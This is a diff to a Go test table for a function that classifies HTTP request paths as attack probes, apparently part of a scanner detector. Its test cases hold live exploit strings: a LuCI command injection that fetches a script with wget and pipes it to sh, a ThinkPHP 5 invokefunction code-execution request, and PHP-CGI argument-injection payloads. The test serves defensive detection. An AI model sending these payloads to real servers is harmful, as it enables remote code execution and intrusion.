@@ -77,6 +77,13 @@ func TestProbeOf(t *testing.T) {
 		{"/cgi-bin/luci", probeStrong},
 		{"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2Fx%2Ft%7Csh%3B%60)", probeStrong},
 		{"/cgi-bin/lucid.pl", probeWeak},
+		// PHP code execution in the query, sent to any index.php:
+		// ThinkPHP 5 and PHP-CGI's argument injection.
+		{`/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello`, probeStrong},
+		{"/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", probeStrong},
+		{"/cgi-bin/php-cgi?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input", probeStrong},
+		{"/docs/php/call_user_func_array.html", probeNone},
+		{"/search?q=function+reference", probeNone},
 	}
 	for _, tt := range tests {
 		if got := probeOf(tt.path); got != tt.want {
